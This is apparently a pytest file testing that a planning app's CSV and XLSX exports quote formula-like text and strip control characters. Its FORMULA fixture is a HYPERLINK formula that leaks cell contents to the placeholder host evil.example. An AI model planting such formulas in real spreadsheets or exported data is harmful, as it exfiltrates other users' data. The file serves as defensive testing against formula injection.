"""Text typed by one user cannot run as a formula in another user's CSV or XLSX download:
the compare exports and the run workbook (the API's CSV is tested in tests/api)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from clusters.models import Area
from municipalities.models import ENGINE_INDICATORS, DemandIndicator, Municipality
from reports.spreadsheet import safe_cell, safe_text
from tests.reports.conftest import Site

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+2", "'=1+2"),
        ("+45 1234", "'+45 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Thisted", "Thisted"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_text_that_starts_like_a_formula_is_quoted(text: str, shown: str) -> None:
    assert safe_text(text) == shown


def test_numbers_stay_numbers() -> None:
    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5 and safe_cell(None) is None


def test_compare_csv_and_xlsx_neutralise_names(site: Site, as_user: Any) -> None:
    area = Area.objects.filter(geography__slug="sundhedsklynger-21").first()
    assert area is not None
    Area.objects.filter(pk=area.pk).update(name=FORMULA)
    Municipality.objects.filter(pk=101).update(name="@kbh")
    client = as_user("negotiator")
    query = f"?s={site.default.pk}&s={site.variant.pk}"
    response = client.get("/compare/export.csv" + query)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    head, body = rows[0], rows[1:]
    areas = {r[head.index("area")] for r in body}
    assert "'" + FORMULA in areas and FORMULA not in areas
    assert [r[1] for r in body if r[0] == "101"] == ["'@kbh"]
    diffs = [int(r[head.index("B_minus_A_total")]) for r in body]
    assert min(diffs) < 0  # negative numbers are still numbers, not quoted text
    book = load_workbook(io.BytesIO(client.get("/compare/export.xlsx" + query).content))
    cells = [c for row in book["Områder"].iter_rows(min_row=2) for c in row]
    names = [c for c in cells if isinstance(c.value, str) and FORMULA in c.value]
    assert names and all(c.value == "'" + FORMULA and c.data_type == "s" for c in names)
    assert not [c for c in cells if c.data_type == "f"]
    numbers = [c.value for c in cells if isinstance(c.value, int | float)]
    assert min(numbers) < 0


def test_run_workbook_neutralises_scenario_name_and_sources(site: Site, as_user: Any) -> None:
    type(site.default).objects.filter(pk=site.default.pk).update(name=FORMULA)
    indicator = DemandIndicator.objects.filter(
        municipality_id=101, indicator__in=ENGINE_INDICATORS
    ).first()
    assert indicator is not None
    DemandIndicator.objects.filter(pk=indicator.pk).update(source="-1+1")
    client = as_user("viewer")
    book = load_workbook(
        io.BytesIO(client.get(f"/runs/{site.default_run.pk}/workbook.xlsx").content)
    )
    every = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in every if c.data_type == "f"]
    about = {row[0]: row[1] for row in book["Om"].iter_rows(values_only=True) if row}
    assert about["Scenarie"] == "'" + FORMULA
    sources = {row[6] for row in book["Drivere"].iter_rows(min_row=2, values_only=True)}
    assert "'-1+1" in sources and "-1+1" not in sources


def test_a_name_with_control_characters_exports_to_xlsx(site: Site, as_user: Any) -> None:
    """XLSX cannot hold most control characters: the export leaves them out, never a 500."""
    assert safe_text("Nord\x00jylland\x1b\x07") == "Nordjylland"
    assert safe_text("=1\x01+1") == "'=1+1"
    assert safe_text("to\tlinjer\r\nher") == "to\tlinjer\r\nher"  # tab and line breaks stay
    Municipality.objects.filter(pk=101).update(name="Køben\x0bhavn\x1f")
    client = as_user("negotiator")
    query = f"?s={site.default.pk}&s={site.variant.pk}"
    response = client.get("/compare/export.xlsx" + query)
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    values = {c.value for sheet in book for row in sheet.iter_rows() for c in row}
    assert "København" in values
